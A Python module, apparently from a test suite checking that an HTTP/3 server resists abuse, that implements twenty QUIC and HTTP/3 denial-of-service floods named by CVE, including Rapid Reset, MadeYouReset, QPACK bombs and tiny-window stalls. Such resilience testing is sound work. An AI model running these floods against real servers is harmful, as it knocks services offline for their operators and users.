"""What an attacker sends over HTTP/3, each attack by the name it is known by."""

from __future__ import annotations

import dataclasses
import itertools
import os
from collections.abc import Callable, Iterator

from aioquic.tls import Epoch

from . import fields
from .transport import Transport, configuration, varint

EXCESSIVE_LOAD = 0x107
SETTINGS = fields.frame(fields.SETTINGS, b"")
# Pieces of a flood that are given to QUIC at once.
BURST = 200


@dataclasses.dataclass(frozen=True)
class Flood:
    """As much as flow control lets through, on one connection after the other."""

    name: str
    known_as: str
    # Does a piece of the attack each time that it is asked; gives how many frames that were.
    steps: Callable[[Transport], Iterator[int]]
    # Whether the server must cut the connection off with H3_EXCESSIVE_LOAD.
    is_cut: bool
    # Whether the server reads bodies.
    server: str = "files"
    # The client's windows, where they are what is attacked.
    window: int = 16 << 20


def begin(attacker: Transport, settings: bytes = SETTINGS) -> int:
    """The control stream; gives its number."""
    quic = attacker.quic
    stream = quic.get_next_available_stream_id(True)
    quic.send_stream_data(stream, b"\0" + settings)
    return stream


def rapid_reset(attacker: Transport) -> Iterator[int]:
    begin(attacker)
    while True:
        for _ in range(BURST // 2):
            stream = attacker.quic.get_next_available_stream_id()
            attacker.quic.send_stream_data(stream, fields.headers())
            attacker.send()
            attacker.quic.reset_stream(stream, 0x10C)
        yield BURST


def stopped_responses(attacker: Transport) -> Iterator[int]:
    """STOP_SENDING instead of RESET_STREAM."""
    begin(attacker)
    while True:
        for _ in range(BURST // 2):
            stream = attacker.quic.get_next_available_stream_id()
            attacker.quic.send_stream_data(stream, fields.headers(path="/large"), True)
            attacker.send()
            attacker.quic.stop_stream(stream, 0x10C)
        yield BURST


def malformed(attacker: Transport) -> Iterator[int]:
    """As MadeYouReset: the server itself has to reset the streams."""
    begin(attacker)
    while True:
        for _ in range(BURST):
            stream = attacker.quic.get_next_available_stream_id()
            attacker.quic.send_stream_data(stream, fields.headers(("connection", "close")), True)
        yield BURST


def on_request(piece: bytes) -> Callable[[Transport], Iterator[int]]:
    """The same again and again behind the head of a request."""
    def steps(attacker: Transport) -> Iterator[int]:
        begin(attacker)
        attacker.quic.send_stream_data(0, fields.headers(method="POST"))
        while True:
            attacker.quic.send_stream_data(0, piece * BURST)
            yield BURST
    return steps


def on_control(pieces: Callable[[int], bytes]) -> Callable[[Transport], Iterator[int]]:
    def steps(attacker: Transport) -> Iterator[int]:
        control = begin(attacker)
        for number in itertools.count(0, BURST):
            attacker.quic.send_stream_data(control, b"".join(map(pieces, range(number, number + BURST))))
            yield BURST
    return steps


def on_stream(kind: bytes, piece: bytes) -> Callable[[Transport], Iterator[int]]:
    def steps(attacker: Transport) -> Iterator[int]:
        begin(attacker)
        stream = attacker.quic.get_next_available_stream_id(True)
        attacker.quic.send_stream_data(stream, kind)
        while True:
            attacker.quic.send_stream_data(stream, piece * BURST)
            yield BURST
    return steps


def unknown_streams(attacker: Transport) -> Iterator[int]:
    begin(attacker)
    while True:
        for _ in range(BURST):
            stream = attacker.quic.get_next_available_stream_id(True)
            attacker.quic.send_stream_data(stream, varint(0x21) + b"grease", True)
        yield BURST


def blocked_streams(attacker: Transport) -> Iterator[int]:
    """More streams than may wait for entries of the table; each waits for one that never comes, then is reset."""
    begin(attacker)
    while True:
        for place in range(BURST):
            stream = attacker.quic.get_next_available_stream_id()
            attacker.quic.send_stream_data(stream, fields.frame(fields.HEADERS, b"\x02\x00\x80" + bytes(1000)))
            if place % 16 == 15:
                attacker.send()
                for number in range(stream - 60, stream + 4, 4):
                    attacker.quic.reset_stream(number, 0x10C)
                attacker.send()
        yield BURST


def large_heads(attacker: Transport) -> Iterator[int]:
    """Heads of 60 KB that do not end, on as many streams as there may be."""
    begin(attacker)
    begun = varint(fields.HEADERS) + varint(60_000) + bytes(2) + fields.integer(1, 3, 0x20) + b"a" + fields.integer(59_900, 7, 0)
    for stream in range(0, 128 * 4, 4):
        attacker.quic.send_stream_data(stream, begun + b"a" * 50_000)
        yield 1
    while True:
        yield 0


def bomb(attacker: Transport) -> Iterator[int]:
    """Each byte of the section stands for a field of 3,900 bytes."""
    begin(attacker)
    encoder = attacker.quic.get_next_available_stream_id(True)
    attacker.quic.send_stream_data(encoder, b"\x02\x3f\xe1\x1f" + fields.integer(6, 5, 0x40) + b"x-bomb"
                                   + fields.integer(3900, 7, 0) + b"b" * 3900)
    while True:
        for _ in range(10):
            stream = attacker.quic.get_next_available_stream_id()
            attacker.quic.send_stream_data(stream, fields.frame(fields.HEADERS, b"\x02\x00" + b"\x80" * 15_000), True)
        yield 10


def unread_instructions(attacker: Transport) -> Iterator[int]:
    """Requests that make the server write to its own streams, which have no window: Stream Cancellation and such."""
    begin(attacker)
    while True:
        for _ in range(BURST):
            stream = attacker.quic.get_next_available_stream_id()
            attacker.quic.send_stream_data(stream, fields.frame(fields.HEADERS, b"\x02\x00\x80"))
            attacker.send()
            attacker.quic.reset_stream(stream, 0x10C)
        yield BURST


def tiny_windows(attacker: Transport) -> Iterator[int]:
    """128 large responses to a client that lets 1 byte more through each time."""
    begin(attacker)
    for stream in range(0, 128 * 4, 4):
        attacker.quic.send_stream_data(stream, fields.headers(path="/large"), True)
    yield 128
    for window in itertools.count(2):
        attacker.quic.raw[Epoch.ONE_RTT] = [b"".join(b"\x11" + varint(stream) + varint(window) for stream in range(at, at + 640, 4)
                                               if stream < 512) for at in (0,)]
        yield 128


def garbage(attacker: Transport) -> Iterator[int]:
    """Datagrams without content, of one byte, of random bytes and of almost an Initial packet, beside a connection."""
    long = bytes.fromhex("c300000001 08 0001020304050607 08 0001020304050607 00 44b0")
    kinds = (b"", b"\x40", os.urandom(1200), long + os.urandom(1177), b"\xc0\xff\x00\x00\x99" + os.urandom(1200), os.urandom(50))
    while True:
        for _ in range(BURST):
            for kind in kinds:
                try:
                    attacker.socket.send(kind)
                except OSError:
                    pass
        yield BURST * len(kinds)


UNKNOWN = fields.frame(0x21, b"")

FLOODS = (
    Flood("rapid reset", "CVE-2023-44487", rapid_reset, True),
    Flood("responses stopped", "CVE-2023-44487", stopped_responses, True),
    Flood("malformed requests", "CVE-2025-8671", malformed, True),
    Flood("empty DATA frames", "CVE-2019-9518", on_request(fields.frame(fields.DATA)), True, "proxy"),
    Flood("unknown frames on a request stream", "CVE-2019-9518", on_request(UNKNOWN), True, "proxy"),
    Flood("unknown frames on the control stream", "CVE-2019-9512", on_control(lambda _: UNKNOWN), True),
    Flood("PRIORITY_UPDATE of one stream", "CVE-2019-9513", on_control(lambda number: fields.priority_update(
        0, b"u=%d" % (number % 8))), True),
    Flood("PRIORITY_UPDATE of streams that never open", "CVE-2019-9513", on_control(lambda number: fields.priority_update(
        4 * (number % 1000))), True),
    Flood("MAX_PUSH_ID", "CVE-2019-9515", on_control(lambda number: fields.frame(fields.MAX_PUSH_ID, varint(number))), True),
    Flood("GOAWAY", "CVE-2019-9515", on_control(lambda _: fields.frame(fields.GOAWAY, b"\0")), True),
    Flood("Set Dynamic Table Capacity", "QPACK", on_stream(b"\2", b"\x20\x3f\xe1\x1f"), True),
    Flood("entries inserted and never used", "QPACK", on_stream(b"\2\x3f\xe1\x1f", b"\x43abc\x03xyz"), True),
    Flood("Stream Cancellation of no stream", "QPACK", on_stream(b"\3", b"\x40"), True),
    Flood("streams of unknown type", "RFC 9114 §6.2", unknown_streams, True),
    Flood("streams blocked on QPACK's table", "QPACK", blocked_streams, True),
    Flood("streams blocked, instructions unread", "QPACK", unread_instructions, True, window=2),
    Flood("QPACK bomb", "CVE-2016-6581", bomb, False),
    Flood("heads of 60 KB that do not end", "RFC 9114 §10.5", large_heads, True),
    Flood("windows opened byte by byte", "CVE-2019-9511", tiny_windows, False, window=1),
    Flood("garbage and empty datagrams", "RFC 9000 §5.2", garbage, False),
)


def options(flood: Flood):
    return configuration(max_data=max(flood.window, 1 << 20), max_stream_data=flood.window)
